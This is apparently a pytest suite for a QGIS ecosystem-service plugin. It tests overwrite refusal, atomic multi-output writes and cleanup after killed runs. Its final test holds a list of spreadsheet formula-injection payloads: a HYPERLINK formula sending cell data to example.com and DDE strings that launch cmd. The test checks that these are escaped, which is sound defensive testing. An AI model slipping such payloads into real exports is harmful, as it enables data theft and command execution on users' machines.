"""Robustness: no run writes over a file it reads, and outputs are written all-or-nothing.

Every destination kind (feature sinks, GeoPackage layers, rasters, CSV, PNG) of every algorithm is pointed
at a file the run reads: the run is refused before anything is written and every file is byte-identical
afterwards. A new layer in an existing GeoPackage (also the one holding the input) works and keeps the other
layers; a re-run replaces its own layer only. Runs that fail while writing leave earlier outputs
byte-identical and no partial file.
"""

import os
import shutil

import pytest

WOULD_OVERWRITE = "would overwrite"


def layer_names(path):
    from osgeo import gdal

    dataset = gdal.OpenEx(str(path), gdal.OF_VECTOR)
    return sorted(dataset.GetLayerByIndex(i).GetName() for i in range(dataset.GetLayerCount()))


def feature_count(uri):
    from qgis.core import QgsVectorLayer

    layer = QgsVectorLayer(uri, "l", "ogr")
    assert layer.isValid(), uri
    return layer.featureCount()


@pytest.fixture
def multi(prepared, tmp_path):
    """A GeoPackage of a year's work: the county units and two other layers."""
    from qgis.core import QgsCoordinateTransformContext, QgsVectorFileWriter, QgsVectorLayer

    path = tmp_path / "multi.gpkg"
    shutil.copy(prepared.path / "hubei_counties.gpkg", path)
    source = QgsVectorLayer(str(prepared.path / "china_provinces.gpkg"), "provinces", "ogr")
    for name in ("notes", "provinces"):
        # A new layer in the same file (an "ogr:dbname=… table=…" destination no longer names a driver in QGIS 3.40).
        options = QgsVectorFileWriter.SaveVectorOptions()
        options.driverName = "GPKG"
        options.layerName = name
        options.actionOnExistingFile = QgsVectorFileWriter.CreateOrOverwriteLayer
        error = QgsVectorFileWriter.writeAsVectorFormatV3(source, str(path), QgsCoordinateTransformContext(), options)
        assert error[0] == QgsVectorFileWriter.NoError, error
    assert layer_names(path) == ["hubei_counties", "notes", "provinces"]
    return path


def ws(prepared, name):
    return str(prepared.path / name)


# (id, algorithm, parameters(prepared) with an output naming an input)
CASES = [
    ("esv: OUTPUT is the input GeoPackage", "esv", lambda p: {"OUTPUT": ws(p, "hubei_counties.gpkg")}),
    ("esv: OUTPUT is the statistics table", "esv", lambda p: {"OUTPUT": ws(p, "hubei_statistics_2017_synthetic.csv")}),
    ("esv: OUTPUT is the input layer of its GeoPackage", "esv",
     lambda p: {"OUTPUT": "ogr:dbname='{}' table=\"hubei_counties\" (geom)".format(ws(p, "hubei_counties.gpkg"))}),
    ("footprint: OUTPUT is its input", "footprint", lambda p: {"OUTPUT": ws(p, "esv.gpkg")}),
    ("priority: OUTPUT is its input", "priority", lambda p: {"OUTPUT": ws(p, "footprint.gpkg")}),
    ("payment: OUTPUT is its input", "payment", lambda p: {"OUTPUT": ws(p, "priority.gpkg")}),
    ("dualzoning: OUTPUT is its input", "dualzoning", lambda p: {"OUTPUT": ws(p, "footprint.gpkg")}),
    ("dualzoning: OUTPUT_SUMMARY is its input", "dualzoning",
     lambda p: {"OUTPUT_SUMMARY": ws(p, "footprint.gpkg")}),
    ("ioland: OUTPUT is Z.csv of the MRIO folder", "ioland", lambda p: {"OUTPUT": ws(p, "mrio/Z.csv")}),
    ("ioland: OUTPUT is the region polygons", "ioland", lambda p: {"OUTPUT": ws(p, "china_provinces.gpkg")}),
    ("ioland: OUTPUT is the category mapping", "ioland", lambda p: {"OUTPUT": ws(p, "mrio/categories.csv")}),
    ("iobilateral: OUTPUT_MATRIX is x.csv", "iobilateral", lambda p: {"OUTPUT_MATRIX": ws(p, "mrio/x.csv")}),
    ("iobilateral: OUTPUT_FLOWS is land.csv", "iobilateral", lambda p: {"OUTPUT_FLOWS": ws(p, "mrio/land.csv")}),
    ("iobilateral: OUTPUT is the region polygons", "iobilateral",
     lambda p: {"OUTPUT": ws(p, "china_provinces.gpkg")}),
    ("mapimage: OUTPUT is the mapped GeoPackage", "mapimage", lambda p: {"OUTPUT": ws(p, "esv.gpkg")}),
    ("landcoverarea: OUTPUT is the land-cover raster", "landcoverarea", lambda p: {"OUTPUT": ws(p, "clcd.tif")}),
    ("landcoverarea: OUTPUT is the polygons", "landcoverarea", lambda p: {"OUTPUT": ws(p, "units_utm.gpkg")}),
    ("esvsurface: OUTPUT_RASTER is the land-cover raster", "esvsurface",
     lambda p: {"OUTPUT_RASTER": ws(p, "clcd.tif")}),
    ("esvsurface: OUTPUT is the polygons", "esvsurface", lambda p: {"OUTPUT": ws(p, "units_utm.gpkg")}),
]


@pytest.mark.parametrize("case, alg, outputs", CASES, ids=[c[0] for c in CASES])
def test_an_output_naming_an_input_is_refused(prepared, guard, tmp_path, case, alg, outputs):
    params = dict(prepared.params(alg), OUTPUT=str(tmp_path / ("o.png" if alg == "mapimage" else "o.gpkg")))
    for key in ("OUTPUT_SUMMARY", "OUTPUT_MATRIX", "OUTPUT_FLOWS", "OUTPUT_RASTER"):
        if key in {"dualzoning": ["OUTPUT_SUMMARY"], "iobilateral": ["OUTPUT_MATRIX", "OUTPUT_FLOWS"],
                   "esvsurface": ["OUTPUT_RASTER"]}.get(alg, []):
            params[key] = str(tmp_path / (key.lower() + (".tif" if key == "OUTPUT_RASTER" else ".gpkg")))
    params.update(outputs(prepared))
    guard.refused(alg, params, WOULD_OVERWRITE)


def test_output_over_a_multi_layer_geopackage_input_is_refused_and_keeps_every_layer(prepared, guard, multi):
    params = dict(prepared.params("esv"), INPUT=str(multi) + "|layername=hubei_counties", OUTPUT=str(multi))
    guard.refused("esv", params, WOULD_OVERWRITE)
    assert layer_names(multi) == ["hubei_counties", "notes", "provinces"]


def test_a_new_layer_in_the_input_geopackage_works_and_keeps_the_other_layers(prepared, guard, multi):
    uri = "ogr:dbname='{}' table=\"esv_2017\" (geom)".format(multi)
    params = dict(prepared.params("esv"), INPUT=str(multi) + "|layername=hubei_counties", OUTPUT=uri)
    out = guard.run("esv", params)["OUTPUT"]
    assert out == "{}|layername=esv_2017".format(multi)
    assert layer_names(multi) == ["esv_2017", "hubei_counties", "notes", "provinces"]
    assert feature_count(out) == 103 and feature_count(str(multi) + "|layername=notes") == 31
    # A re-run replaces its own layer only (still 103 features, other layers kept, no temporary layer left).
    guard.run("esv", params)
    assert layer_names(multi) == ["esv_2017", "hubei_counties", "notes", "provinces"]
    assert feature_count(out) == 103


def test_a_failed_run_into_an_existing_geopackage_leaves_it_byte_identical(prepared, guard, multi, tmp_path):
    uri = "ogr:dbname='{}' table=\"notes\" (geom)".format(multi)
    params = dict(prepared.params("esv"), INPUT=str(prepared.path / "hubei_counties.gpkg"), OUTPUT=uri,
                  AREA_FIELD="population_mu")
    guard.refused("esv", params, "population_mu")
    assert layer_names(multi) == ["hubei_counties", "notes", "provinces"]


def test_all_outputs_of_a_multi_output_run_or_none(prepared, guard, tmp_path):
    """iobilateral with earlier results at its three paths, failing at the end: all three byte-identical."""
    outputs = {key: tmp_path / name for key, name in (("OUTPUT", "balance.gpkg"), ("OUTPUT_MATRIX", "matrix.csv"),
                                                       ("OUTPUT_FLOWS", "flows.gpkg"))}
    params = dict(prepared.params("iobilateral"), **{k: str(v) for k, v in outputs.items()})
    guard.run("iobilateral", params)
    first = {k: v.read_bytes() for k, v in outputs.items()}
    # Same run, cancelled after the first outputs were written (progress 90 %): none of the three changes.
    guard.refused("iobilateral", params, "cancel", feedback=cancel_at(90))
    assert {k: v.read_bytes() for k, v in outputs.items()} == first


def test_a_successful_run_replaces_earlier_outputs_and_leaves_no_temporary_file(prepared, guard, tmp_path):
    params = dict(prepared.params("dualzoning"), OUTPUT=str(tmp_path / "z.gpkg"),
                  OUTPUT_SUMMARY=str(tmp_path / "s.csv"))
    (tmp_path / "z.gpkg").write_bytes(b"an earlier result")
    (tmp_path / "s.csv").write_text("an earlier summary")
    out = guard.run("dualzoning", params)
    assert out["OUTPUT"] == str(tmp_path / "z.gpkg") and feature_count(out["OUTPUT"]) == 103
    assert layer_names(tmp_path / "z.gpkg") == ["z"]  # the layer is named after the file, as QGIS names it
    assert (tmp_path / "s.csv").read_text(encoding="utf-8").startswith("\ufeffzone,")  # with the BOM
    assert sorted(os.listdir(tmp_path)) == ["s.csv", "z.gpkg"]


def test_outputs_load_into_the_project_from_their_final_names(prepared, layer_tree_view, tmp_path):
    from qgis import processing
    from qgis.core import QgsProject

    processing.runAndLoadResults("ecocomp:esvsurface", dict(
        prepared.params("esvsurface"), OUTPUT=str(tmp_path / "esv.gpkg"), OUTPUT_RASTER=str(tmp_path / "esv.tif")))
    loaded = {os.path.basename(layer.source().split("|")[0]): layer
              for layer in QgsProject.instance().mapLayers().values() if str(tmp_path) in layer.source()}
    assert sorted(loaded) == ["esv.gpkg", "esv.tif"]
    QgsProject.instance().removeMapLayers([layer.id() for layer in loaded.values()])


def test_mapimage_draws_a_temporary_layer_of_the_previous_step(prepared, guard, tmp_path):
    """The result of a previous step in the desktop and the modeller is a memory layer (was: QgsCsException)."""
    from qgis.core import QgsProject, QgsVectorLayer
    from qgis.PyQt.QtGui import QImage

    layer = QgsVectorLayer(str(prepared.path / "esv.gpkg"), "esv", "ogr").materialize(
        __import__("qgis.core", fromlist=["QgsFeatureRequest"]).QgsFeatureRequest())
    assert layer.providerType() == "memory"
    QgsProject.instance().addMapLayer(layer)
    try:
        out = guard.run("mapimage", {"INPUT": layer.id(), "FIELD": "esv_total", "DPI": 50,
                                     "OUTPUT": str(tmp_path / "m.png")})["OUTPUT"]
    finally:
        QgsProject.instance().removeMapLayer(layer.id())
    image = QImage(out)
    assert (image.width(), image.height()) == (584, 413)  # A4 landscape at 50 dpi
    assert "#00441b" in {image.pixelColor(x, y).name() for x in range(0, 584, 3) for y in range(0, 413, 3)}


def cancel_at(percent):
    from qgis.core import QgsProcessingFeedback

    feedback = QgsProcessingFeedback()
    feedback.progressChanged.connect(lambda p: feedback.cancel() if p >= percent else None)
    return feedback


# --- found by a fuzz run: odd destinations -------------------------------------------------------------------

def test_a_destination_without_extension_is_written_as_a_geopackage(prepared, guard, tmp_path):
    out = guard.run("esv", dict(prepared.params("esv"), OUTPUT=str(tmp_path / "esv_2017")))["OUTPUT"]
    assert out == str(tmp_path / "esv_2017.gpkg") and feature_count(out) == 103
    assert sorted(os.listdir(tmp_path)) == ["esv_2017.gpkg"]


def test_a_folder_as_destination_is_refused(prepared, guard, tmp_path):
    (tmp_path / "我的 文件").mkdir()
    guard.refused("esv", dict(prepared.params("esv"), OUTPUT=str(tmp_path / "我的 文件")), "names the folder")


@pytest.mark.parametrize("extension, driver_check", [(".xlsx", "sheet"), (".sqlite", "table"), (".geojson", None),
                                                      (".csv", None)])
def test_other_formats_get_the_final_name_inside_and_no_temporary_file(prepared, guard, tmp_path, extension,
                                                                       driver_check):
    out = guard.run("esv", dict(prepared.params("esv"), OUTPUT=str(tmp_path / ("esv" + extension))))["OUTPUT"]
    path = out.split("|")[0]
    assert os.path.basename(path).startswith("esv.") and feature_count(out) == 103
    assert not [name for name in os.listdir(tmp_path) if "ecocomp-partial" in name]
    if driver_check:
        assert layer_names(path) == ["esv"]


@pytest.mark.parametrize("extension", [".shp", ".dbf"])
def test_a_shapefile_that_would_cut_field_names_is_refused(prepared, guard, tmp_path, extension):
    """10-byte field names would turn esv_nonmarket into esv_nonmar and prob_zone_receiving/balance/paying into
    prob_zone_, prob_zon_1, prob_zon_2 (and payment_10k_cny would lose its unit): refused, naming the fields, and
    nothing written."""
    guard.refused("esv", dict(prepared.params("esv"), OUTPUT=str(tmp_path / ("esv" + extension))),
                  "keeps only 10 bytes of a field name")
    assert not list(tmp_path.glob("esv*"))


def test_a_new_layer_in_a_geopackage_in_a_folder_with_an_apostrophe(prepared, guard, tmp_path):
    folder = tmp_path / "O'Brien"
    folder.mkdir()
    guard.run("esv", dict(prepared.params("esv"), OUTPUT=str(folder / "esv.gpkg")))
    out = guard.run("esv", dict(prepared.params("esv"), OUTPUT=str(folder / "esv.gpkg") + "|layername=second"))
    assert layer_names(folder / "esv.gpkg") == ["esv", "second"]
    assert feature_count(out["OUTPUT"]) == 103


def test_a_move_that_fails_puts_every_earlier_output_back(prepared, guard, tmp_path, monkeypatch):
    """Fault injection: the second of the three moves of iobilateral fails; all three files stay as they were."""
    from ecocomp.algorithms import outputs as staging

    paths = {key: tmp_path / name for key, name in (("OUTPUT", "balance.gpkg"), ("OUTPUT_MATRIX", "matrix.csv"),
                                                     ("OUTPUT_FLOWS", "flows.gpkg"))}
    params = dict(prepared.params("iobilateral"), **{k: str(v) for k, v in paths.items()})
    guard.run("iobilateral", params)
    before = {k: v.read_bytes() for k, v in paths.items()}
    real_replace = os.replace

    def failing_replace(source, target):
        if str(target) == str(paths["OUTPUT_MATRIX"]) and "ecocomp-partial" in str(source) \
                and not str(source).endswith(".backup"):
            raise OSError("disk full (injected)")
        return real_replace(source, target)

    monkeypatch.setattr(staging.os, "replace", failing_replace)
    guard.refused("iobilateral", dict(params, UNIT_VALUE=5.0), "disk full")
    assert {k: v.read_bytes() for k, v in paths.items()} == before


def test_regions_with_several_polygons_are_refused_in_the_input_output_algorithms(prepared, guard, tmp_path):
    from qgis import processing

    doubled = str(tmp_path / "doubled.gpkg")
    processing.run("native:mergevectorlayers", {"LAYERS": [str(prepared.path / "china_provinces.gpkg")] * 2,
                                                "OUTPUT": doubled})
    params = dict(prepared.params("ioland"), INPUT=doubled, OUTPUT=str(tmp_path / "o.gpkg"))
    guard.refused("ioland", params, "have several polygons in field 'name_en'")


def test_duplicate_fid_values_are_named_before_writing_a_geopackage(prepared, guard, tmp_path):
    from qgis import processing

    merged = str(tmp_path / "merged.shp")  # a shapefile keeps 'fid' as an ordinary field
    processing.run("native:mergevectorlayers", {"LAYERS": [str(prepared.path / "hubei_counties.gpkg")] * 2,
                                                "OUTPUT": merged})
    params = dict(prepared.params("esv"), INPUT=merged, INPUT_KEY="adcode", OUTPUT=str(tmp_path / "o.gpkg"),
                  DUPLICATE_KEYS=1)
    guard.refused("esv", params, "Field 'fid' has duplicate values")


def test_outputs_that_are_layers_of_one_new_geopackage_are_all_kept(prepared, guard, tmp_path):
    """OUTPUT=t.gpkg|layername=units and OUTPUT_TABLE=t.gpkg|layername=od: the new file holds both layers (it kept
    only the last), with every feature, and no temporary file is left."""
    target = tmp_path / "t.gpkg"
    out = guard.run("transfers", {"INPUT": str(prepared.path / "compensation.gpkg"), "METHOD": 1,
                                  "GROUP_FIELDS": ["city"], "OUTPUT": str(target) + "|layername=units",
                                  "OUTPUT_TABLE": str(target) + "|layername=od"})
    assert sorted(layer_names(target)) == ["od", "units"]
    assert feature_count(out["OUTPUT"]) == 103 and feature_count(out["OUTPUT_TABLE"]) > 0
    assert not [name for name in os.listdir(tmp_path) if "ecocomp-partial" in name]


def test_the_next_run_removes_what_a_killed_run_left(prepared, run_alg, tmp_path):
    """kill -9 mid-write leaves esv.ecocomp-partial-… files beside the output, and esv_ecocomp_partial_… layers in a
    GeoPackage: the next run of that output removes them (older than itself) and says so; other files stay."""
    import time

    from qgis.core import QgsProcessingFeedback

    from osgeo import ogr

    said = []

    class Feedback(QgsProcessingFeedback):
        def pushWarning(self, text):  # noqa: N802
            said.append(text)

    left = [tmp_path / "esv.ecocomp-partial-0123abcd.gpkg", tmp_path / "esv.ecocomp-partial-0123abcd.gpkg-wal"]
    for path in left:
        path.write_bytes(b"half written")
    other = tmp_path / "other.ecocomp-partial-0123abcd.gpkg"  # another output's: not this run's business
    other.write_bytes(b"x")
    old = time.time() - 3600
    for path in left + [other]:
        os.utime(path, (old, old))
    run_alg("esv", dict(prepared.params("esv"), OUTPUT=str(tmp_path / "esv.gpkg")), Feedback())
    assert not any(path.exists() for path in left) and other.exists()
    assert any("esv.ecocomp-partial-0123abcd.gpkg" in text for text in said)

    book = tmp_path / "book.gpkg"
    run_alg("esv", dict(prepared.params("esv"), OUTPUT=str(book) + "|layername=keep"))
    source = ogr.Open(str(book), 1)
    source.CopyLayer(source.GetLayerByName("keep"), "esv_ecocomp_partial_0123abcd")  # a killed run's layer
    source = None
    os.utime(book, (old, old))
    run_alg("esv", dict(prepared.params("esv"), OUTPUT=str(book) + "|layername=esv"), Feedback())
    assert sorted(layer_names(book)) == ["esv", "keep"]
    assert any("esv_ecocomp_partial_0123abcd" in text for text in said)


PAYLOADS = ['=HYPERLINK("http://example.com/?"&A2,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "=1+2"]


def test_no_text_cell_is_written_as_a_formula(run_alg, polygons, tmp_path):
    """Unit names crafted as formulas (the classic payloads) are written as text: an apostrophe before them in every
    CSV (the template, the transfers table), plain strings in the XLSX template — never a formula that a spreadsheet
    runs; numbers in the same files stay numbers."""
    import csv
    import zipfile

    layer = polygons([("adcode", "string"), ("name", "string"), ("payment", "double")],
                     [("42010{}".format(i), payload, (-1.0) ** i * (i + 1) * 10.0)
                      for i, payload in enumerate(PAYLOADS)] + [("420199", "-12.5", 5.0), ("420198", "-", 6.0)],
                     "units")
    template = run_alg("statstemplate", {"INPUT": layer, "KEY_FIELD": "adcode", "NAME_FIELD": "name", "CHAIN": 2,
                                         "OUTPUT_XLSX": str(tmp_path / "t.xlsx"), "OUTPUT_CSV": str(tmp_path / "t.csv")})
    with open(template["OUTPUT_CSV"], encoding="utf-8-sig", newline="") as handle:
        names = [row[1] for row in list(csv.reader(handle))[1:]]
    assert names == ["'" + p for p in PAYLOADS] + ["-12.5", "-"]  # a number or a missing marker stays as it is
    with zipfile.ZipFile(template["OUTPUT_XLSX"]) as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet for sheet in sheets)  # no formula element anywhere
    out = run_alg("transfers", {"INPUT": layer, "METHOD": 0, "OUTPUT": str(tmp_path / "u.gpkg"),
                                "OUTPUT_TABLE": str(tmp_path / "od.csv"), "OUTPUT_LINES": str(tmp_path / "l.gpkg")})
    with open(out["OUTPUT_TABLE"], encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [r[k] for r in rows for k in ("payer_name", "receiver_name")]
    assert cells and all(not c.startswith(("=", "+", "@")) and not (c.startswith("-") and c not in ("-12.5", "-"))
                         for c in cells), cells
    assert all(float(r["amount"]) > 0 for r in rows)  # numbers stay numbers
